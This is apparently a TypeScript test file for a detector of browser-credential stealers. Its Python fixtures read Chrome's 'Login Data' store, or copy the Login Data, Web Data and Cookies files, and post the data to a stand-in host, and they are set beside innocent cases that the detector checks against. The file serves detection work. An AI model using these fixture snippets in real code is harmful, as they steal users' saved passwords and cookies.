import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-browser-store.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

const LOGIN = 'p = os.path.join(os.environ["LOCALAPPDATA"], "Google/Chrome/User Data/Default/Login Data")\n'

test.each([
  [
    'sent out',
    `import os, sqlite3, requests\n${LOGIN}rows = sqlite3.connect(p).execute("x").fetchall()\nrequests.post("https://c.invalid", json=rows)`,
    ['decisive 13 a.py:3'],
  ],
  [
    'several, and an upload',
    'import os, shutil, requests\nhome = os.path.expanduser("~")\nfor p in ["Login Data", "Web Data", "Network/Cookies"]:\n  shutil.copy(home + "/x/" + p, "/tmp/x")\nrequests.post("https://c.invalid", data="x")',
    ['decisive 11 a.py:4'],
  ],
])('attack: %s', async (_, code, expected) => {
  expect(await seen({ 'a.py': code })).toEqual(expect.arrayContaining(expected))
})

test.each([
  [
    'an import of passwords',
    `import os, sqlite3\n${LOGIN}rows = sqlite3.connect(p).execute("x").fetchall()\n`,
    ['context 1.5 a.py:3'],
  ],
  ['a form', 'import requests\nlabel = "Login Data"\nrequests.post("https://c.invalid", data=label)', []],
])('innocent: %s', async (_, code, expected) => {
  expect(await seen({ 'a.py': code })).toEqual(expected)
})
